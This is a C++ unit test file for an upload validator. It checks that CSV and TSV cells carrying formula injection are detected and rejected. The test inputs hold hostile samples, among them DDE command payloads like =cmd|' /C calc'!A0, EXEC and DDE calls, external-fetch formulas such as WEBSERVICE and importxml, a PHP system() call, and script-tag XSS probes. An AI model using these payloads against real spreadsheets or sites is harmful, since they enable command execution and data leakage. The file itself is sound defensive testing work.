#include "formats/grammars.hpp"
#include "support/catch.hpp"
#include "support/judge.hpp"

#include <string>

namespace uploadgate::formats {
namespace {

structure_limits strict() {
  structure_limits limits;
  limits.document.formulas = handling::reject;
  return limits;
}

void judge(grammar_function grammar, const test::judged& c) { test::judge_one(grammar, c, strict()); }

TEST_CASE("formulas that fetch or start something are refused where formulas only warn", "[csv]") {
  const test::judged cases[] = {
      {"a sum", "a,=SUM(A1:A3)\n", ""},
      {"a link to click on", "a,\"=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"\n", ""},
      {"a list with bars behind a dash", "- one | two,3\n", ""},
      {"a text that exclaims", "-what | is that!,3\n", ""},
      {"a table with bars", "a|b\n-x|y!|z\n", ""},
      {"a command in a table with bars", "a|b\n1|=cmd|' /C calc'!A0\n", "dynamic_data_exchange", 6},
      {"a command", "a,=cmd|' /C calc'!A0\n", "dynamic_data_exchange", 2},
      {"a command at the end of the file", "=cmd|' /C calc'!A0", "dynamic_data_exchange", 0},
      {"a command in quotes", "a,\"=cmd|' /C calc'!A0\",b\n", "dynamic_data_exchange", 3},
      {"a command behind a sum", "@SUM(1+1)*cmd|' /C calc'!A0\n", "dynamic_data_exchange", 0},
      {"a command behind numbers", "1,-2+3+cmd|' /C calc'!A0\n", "dynamic_data_exchange", 2},
      {"a command behind the other delimiter", "a,b;=cmd|' /C calc'!A0\n", "dynamic_data_exchange", 4},
      {"a second formula", "=1+1\n=MSEXCEL|'\\..\\cmd.exe'!''\n", "dynamic_data_exchange", 5},
      {"a function for DDE", "=DDE(\"cmd\";\"/C calc\";\"x\")\n", "dynamic_data_exchange", 0},
      {"a symbolic link file", "ID;PWXL;N;E\r\nC;X1;Y1;K0;ECMD|calc!A0\r\nE\r\n", "type_mismatch", 0},
      {"a table that begins like one", "ID;Price;Name\n1;2;K\n", ""},
      {"a web service", "=WEBSERVICE(\"http://x/\"&A1)\n", "external_reference", 0},
      {"a picture from the web", "=IMAGE(\"http://x/\"&A1)\n", "external_reference", 0},
      {"a feed", "=importxml(CONCAT(\"http://x/\",A1),\"//a\")\n", "external_reference", 0},
      {"a program", "=EXEC(\"calc\")\n", "macros", 0},
  };
  for (const test::judged& c : cases) {
    CAPTURE(c.name);
    const test::outcome o = test::read_every_split(csv, c.input);
    CHECK(o.reason == c.reason);
    CHECK(o.offset == c.offset);
  }
}

TEST_CASE("CSV cells that spreadsheets run", "[csv]") {
  const test::judged cases[] = {
      {"plain", "a,b\r\n1,2\r\n", ""},
      {"a page", "\n<script>alert(1)</script>,b\n", "html", 1},
      {"a tag in a later cell", "a,<script>\n", ""},
      {"quoted", "a,\"b,\r\n\"\"c\"\"\",d\r\n", ""},
      {"an empty quoted cell", "\"\",\"\"\n", ""},
      {"numbers with signs", "-12.5,+3,-1e-5,-1.5E+10,\"-1,234.50\",-3%\n", ""},
      {"telephone numbers", "+49 (89) 123-456,+1.800.555/10\n", ""},
      {"dashes", "-,--,\" - \",+\n", ""},
      {"a decimal comma", "a;b\n-12,5;+3,1\n", ""},
      {"an address in the middle", "me@example.org,1=2\n", ""},
      {"a command", "=cmd|' /C calc'!A0", "formulas", 0},
      {"a command in the second cell", "a,=1+1", "formulas", 2},
      {"in a quoted cell", "a,\"=HYPERLINK(\"\"http://x\"\")\"", "formulas", 3},
      {"in the second row", "a,b\r\n=1,2", "formulas", 5},
      {"behind a plus", "+cmd|' /C calc'!A0", "formulas", 0},
      {"behind a minus", "x,-2+3+cmd|' /C calc'!A0", "formulas", 2},
      {"a cell reference behind a minus", "-E5", "formulas", 0},
      {"an at sign", "@SUM(1)", "formulas", 0},
      {"a tab in front, quoted", "\"\t=1\"", "formulas", 1},
      {"a carriage return in front, quoted", "\"\r=1\"", "formulas", 1},
      {"a fullwidth equals sign",
       "a,\xEF\xBC\x9D"
       "1",
       "formulas", 2},
      {"behind the other delimiter", "a,b;=1+1", "formulas", 4},
      {"behind a tab", "a,b\t=1+1", "formulas", 4},
      {"with a delimiter that the file names", "sep=|\na|=1", "formulas", 8},
      {"behind a byte order mark", "\xEF\xBB\xBF=1+1", "formulas", 3},
      {"an open quote", "a,\"b\nc,d\n", "bad_structure", 2},
      {"an open empty quote", "a,\"", "bad_structure", 2},
      {"text behind a quoted cell", "\"a\"b,c", "bad_structure", 3},
      {"padding behind a quoted cell", "\"a\" ,c", ""},
      {"a control character", "a,\x01", "control_character", 2},
  };
  for (const test::judged& c : cases) judge(csv, c);
}

TEST_CASE("a table that begins as a program is none", "[csv]") {
  judge(csv, {"PHP", "<?php system(1); ?>,a\n", "script", 0});
  judge(csv, {"a handler", "<img src=x onerror=alert(1)>,a\n", "script", 0});
  judge(tsv, {"a batch file", "@echo off\tb\n", "script", 0});
  judge(csv, {"a page in the second cell", "a,<script>\n", ""});
}

TEST_CASE("TSV has no quotes to close", "[csv]") {
  const test::judged cases[] = {
      {"plain", "a\tb\n1\t2\n", ""},
      {"inches", "6\"\t\"x\n", ""},
      {"a formula", "a\t=1+1\n", "formulas", 2},
      {"a formula behind a quote", "a\t\"=1+1\"\n", "formulas", 3},
  };
  for (const test::judged& c : cases) judge(tsv, c);
}

TEST_CASE("formulas are noted once by default, and let pass on demand", "[csv]") {
  structure_limits limits;
  const test::outcome o = test::read_every_split(csv, "=1,=2\n=3", limits);
  CHECK(o.ok());
  CHECK(o.found.warnings == std::vector<std::string>{"formulas: a cell begins as a formula at 0"});
  limits.document.formulas = handling::allow;
  CHECK(test::read_every_split(csv, "=1", limits).found.warnings.empty());
}

TEST_CASE("cells are followed over block ends", "[csv]") {
  for (const std::size_t n : {4094U, 4095U, 4096U}) {
    judge(csv, {"plain", std::string(n, 'x') + ",=1", "formulas", n + 1});
    judge(csv, {"quoted", "\"" + std::string(n, 'x') + "\"\"\",\"=1\"", "formulas", n + 6});
  }
}

}  // namespace
}  // namespace uploadgate::formats
